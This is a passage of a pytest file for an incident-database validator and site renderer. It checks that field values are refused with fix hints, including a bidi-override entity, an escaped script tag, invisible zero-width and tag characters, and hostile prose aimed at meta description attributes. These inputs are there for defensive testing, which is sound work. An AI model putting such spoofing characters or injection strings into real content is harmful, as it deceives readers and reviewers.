    ),
    pytest.param(
        mutate(
            "  - id: 2020-02-16-baghdad\n",
            "  - id: "
            "2020-02-16-aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\n",
        ),
        [
            "data/incidents.yaml:24:9: [incidents[0]] id: an id of 91 characters, over 80 (ids "
            "become page addresses: keep the date and a few words)",
        ],
        id="id-too-long",
    ),
    pytest.param(
        mutate(
            "  - id: baghdad\n",
            "  - id: index\n",
        ),
        [
            "data/incidents.yaml:20:9: [index] id: the id 'index' is the address of the list "
            "page (choose another id)",
            "data/incidents.yaml:28:12: [2020-02-16-baghdad] place: unknown place id 'baghdad' "
            "(add it to places first)",
        ],
        id="id-index",
    ),
    pytest.param(
        mutate(
            "summary: Rockets fell near the *embassy*.",
            'summary: "Rockets &#x202E;fell near the embassy."',
        ),
        [
            "data/incidents.yaml:42:14: [2020-02-16-baghdad] summary: character reference "
            "'&#x202E;' is not allowed (write the character itself (é, —, ’); a lone & is fine)",
        ],
        id="entity-bidi-override",
    ),
    pytest.param(
        mutate(
            "summary: Rockets fell near the *embassy*.",
            'summary: "Rockets &lt;script&gt; fell."',
        ),
        [
            "data/incidents.yaml:42:14: [2020-02-16-baghdad] summary: character reference "
            "'&lt;' is not allowed (write the character itself (é, —, ’); a lone & is fine)",
        ],
        id="entity-markup",
    ),
    pytest.param(
        mutate(
            "title: Rockets near the embassy",
            'title: "Rockets\u200b near the embassy"',
        ),
        [
            "data/incidents.yaml:25:20: invisible character U+200B not allowed (remove it: a "
            "reader or reviewer cannot see it, and it can hide or fake text)",
        ],
        id="invisible-zero-width-space",
    ),
    pytest.param(
        mutate(
            "title: Rockets near the embassy",
            'title: "Rockets\U000e0041 near the embassy"',
        ),
        [
            "data/incidents.yaml:25:20: invisible character U+E0041 not allowed (remove it: a "
            "reader or reviewer cannot see it, and it can hide or fake text)",
        ],
        id="invisible-tag-character",
    ),
    pytest.param(
        mutate(
            "summary: Rockets fell near the *embassy*.",
            'summary: "Rock\xadets fell."',
        ),
        [
            "data/incidents.yaml:42:19: invisible character U+00AD not allowed (remove it: a "
            "reader or reviewer cannot see it, and it can hide or fake text)",
        ],
        id="invisible-soft-hyphen",
    ),
    pytest.param(
        mutate(
            "title: Rockets near the embassy",
            'title: "́Rockets near the embassy"',
        ),
        [
            "data/incidents.yaml:25:12: [2020-02-16-baghdad] title: a combining mark with no "
            "letter before it (remove it, or join it to its letter)",
        ],
        id="lone-combining-mark",
    ),
    pytest.param(
        mutate(
            "title: Rockets near the embassy",
            'title: "— -- —"',
        ),
        [
            "data/incidents.yaml:25:12: [2020-02-16-baghdad] title: has no letter or digit "
            "that a reader would see (write the words, or leave the key out)",
        ],
        id="title-without-words",
    ),
    pytest.param(
        mutate(
            "summary: Rockets fell near the *embassy*.",
            'summary: "* * *"',
        ),
        [
            "data/incidents.yaml:42:14: [2020-02-16-baghdad] summary: has no letter or digit "
            "that a reader would see (write the words, or leave the key out)",
        ],
        id="summary-only-markup",
    ),
    pytest.param(
        mutate(
            "summary: Rockets fell near the *embassy*.",
            'summary: "[](https://www.afp.com/)"',
        ),
        [
            "data/incidents.yaml:42:14: [2020-02-16-baghdad] summary: nothing but markup: a "
            "reader would see no words (write the words, or leave the key out)",
        ],
        id="summary-link-without-words",
    ),
    pytest.param(
        mutate(
            "summary: Rockets fell near the *embassy*.",
            'summary: "Rockets fell.\\n\\n[AFP]: https://www.afp.com/"',
        ),
        [
            "data/incidents.yaml:42:14: [2020-02-16-baghdad] summary: a line that reads as a "
            "link definition ([name]: address) is hidden by Markdown (write the link inline: "
            "[name](https://...))",
        ],
        id="summary-link-definition",
    ),
    pytest.param(
        mutate(
            "    description: A militia.",
            '    description: A militia.\n    aliases:\n      - {name: "Nujabá", lang: fr}\n  '
            '    - {name: "Nujabá", lang: fr}',
        ),
        [
            "data/incidents.yaml:21:9: [nujaba] aliases[1]: 'Nujabá' is listed twice (first at "
            "[0]) (say each once)",
        ],
        id="aliases-same-after-nfc",
    ),
    pytest.param(
        mutate(
            "    sources: [afp-2020-02-16, reuters-2020-02-16]",
            "    sources: [afp-2020-02-16, reuters-2020-02-16, afp-2020-02-16]",
        ),
        [
            "data/incidents.yaml:43:51: [2020-02-16-baghdad] sources[2]: 'afp-2020-02-16' is "
            "listed twice (first at [0]) (say each once)",
        ],
        id="sources-repeated",
    ),
    pytest.param(
        mutate(
            "    kind: city\n",
            "    kind: city\n    coordinates: {lat: 95, lon: 44.4, precision: exact}\n",
        ),
        [
            "data/incidents.yaml:23:24: [baghdad] coordinates.lat: 95 is outside -90 to 90 "
            "(Latitude, −90 to 90. Check the sign)",
        ],
        id="lat-out-of-range",
    ),
    pytest.param(
        mutate(
            "    kind: city\n",
            "    kind: city\n    coordinates: {lat: 33.3, lon: -181, precision: exact}\n",
        ),
        [
            "data/incidents.yaml:23:35: [baghdad] coordinates.lon: -181 is outside -180 to 180 "
            "(Longitude, −180 to 180. Check the sign)",
        ],
        id="lon-out-of-range",
    ),
    pytest.param(
        mutate(
            "    kind: city\n",
            "    kind: city\n    coordinates: {lat: 033.3, lon: 44.4, precision: exact}\n",
        ),
        [
            "data/incidents.yaml:23:24: [baghdad] coordinates.lat: '033.3' is written with a "
            "leading zero (write it without)",
        ],
        id="decimal-leading-zero",
    ),
    pytest.param(
        mutate(
            "        count: {min: 2, max: 3}",
            "        count: 12345678901234567890",
        ),
        [
            "data/incidents.yaml:35:16: [2020-02-16-baghdad] munitions[0].count: "
            "'12345678901234567890' has 20 digits, over 7 (counts go up to 9,999,999)",
        ],
        id="count-too-many-digits",
    ),
]


@pytest.mark.parametrize(("raw", "expected"), SEAMS)
def test_what_the_model_cannot_hold_is_refused_with_its_fix(
    raw: bytes, expected: list[str]
) -> None:
    assert problems(raw) == expected


SECOND = """
  - id: 2020-02-17-baghdad
    title: Rockets again
    type: rocket-attack
    date: "2020-02-17"
    place: baghdad
    status: merged
    merged_into: 2020-02-16-baghdad
    summary: Rockets again.
    sources: [afp-2020-02-16]
    created: "2026-11-21"
"""


def test_records_merged_into_each_other_are_refused_not_lost() -> None:
    raw = mutate(
        '    created: "2026-11-21"\n',
        '    status: merged\n    merged_into: 2020-02-17-baghdad\n    created: "2026-11-21"\n'
        + SECOND,
    )
    found = problems(raw)
    assert any(
        "merged_into: merged_into leads back to" in line and "(a cycle)" in line for line in found
    ), found
    assert len([line for line in found if "(a cycle)" in line]) == 1, "one loop, one message"


def place_chain(length: int) -> bytes:
    """Places each inside the next, `length` of them, the innermost the incident's."""
    chain = "".join(
        f"  - id: p{n}\n    name: Place {n}\n    kind: city\n"
        + (f"    parent: p{n + 1}\n" if n + 1 < length else "")
        for n in range(length)
    )
    return mutate("places:\n", "places:\n" + chain).replace(b"    place: baghdad", b"    place: p0")


def test_a_chain_of_places_deeper_than_pages_can_show_is_refused() -> None:
    assert problems(place_chain(8)) == []
    found = problems(place_chain(9))
    assert found == [
        f"{NAME}:23:13: [p0] parent: parent makes a chain of more than 8 levels "
        "(link it to a nearer container: pages show every level above a record)"
    ]


def test_a_long_chain_of_places_is_checked_in_one_pass(tmp_path: Path) -> None:
    """20,000 places in one chain: one message, well inside the check's timeout (a walk
    from every place to the top would take minutes)."""
    result = check_cli(place_chain(20_000), tmp_path)
    assert result.returncode == 1, result.stdout
    assert result.stdout.splitlines()[-1] == f"1 error in {NAME}", result.stdout[-500:]


def test_thousands_of_unknown_ids_get_a_guess_for_the_first_few_only(tmp_path: Path) -> None:
    """5,000 unknown ids, each close to a real one: every one is reported, the first 50 with
    a "did you mean" (each guess compares with every id: guessing for all would be n × m)."""
    refs = "".join(f"\n      - afp-2020-02-16-{n}" for n in range(5_000))
    raw = mutate(
        "    sources: [afp-2020-02-16, reuters-2020-02-16]",
        f"    sources:\n      - afp-2020-02-16\n      - reuters-2020-02-16{refs}",
    )
    with pytest.raises(DataError) as err:
        load_bytes(raw, NAME)
    unknown = [p for p in err.value.problems if p.message.startswith("unknown source id")]
    assert len(unknown) == len(err.value.problems) == 5_000
    guessed = [p for p in unknown if p.hint.startswith("did you mean")]
    assert guessed == unknown[:50]
    result = check_cli(raw, tmp_path)  # and the command line, well inside its timeout
    assert result.stdout.splitlines()[-1] == f"5000 errors in {NAME}"


def test_a_date_far_from_the_others_does_not_stretch_the_statistics() -> None:
    from incidentdb.model.index import build_index
    from incidentdb.site.render import Renderer

    def statistics_size(raw: bytes) -> int:
        db = load_bytes(raw, NAME)
        pages = dict(Renderer(db, build_index(db)).jobs())
        return len(pages["statistics.md"]().markdown())

    one = BASE[BASE.index("  - id: 2020-02-16-baghdad") :]
    far = one.replace("2020-02-16-baghdad", "1901-02-16-baghdad").replace(
        '"2020-02-16"', '"1901-02-16"'
    )
    alone = statistics_size(BASE.encode())
    stretched = statistics_size((BASE + far).encode())
    assert stretched < 2 * alone, (alone, stretched)


def test_descriptions_are_literal_text_in_their_attributes(hostile_site: Path) -> None:
    """The page description (search results, link previews) holds the summary's words as
    text: quotes, angle brackets and template syntax stay inside the attribute."""
    from bs4 import BeautifulSoup

    from incidentdb.site.render import page_description

    soup = BeautifulSoup(
        (hostile_site / "incidents" / INCIDENT_ID / "index.html").read_text(encoding="utf-8"),
        "html.parser",
    )
    expected = page_description(H_PROSE)
    assert '"' in expected and "{{" in expected, "the hostile prose reaches the description"
    (meta,) = soup.find_all("meta", attrs={"name": "description"})
    (og,) = soup.find_all("meta", attrs={"property": "og:description"})
    assert meta["content"] == og["content"] == expected
    assert not soup.find_all("img", attrs={"onerror": True})
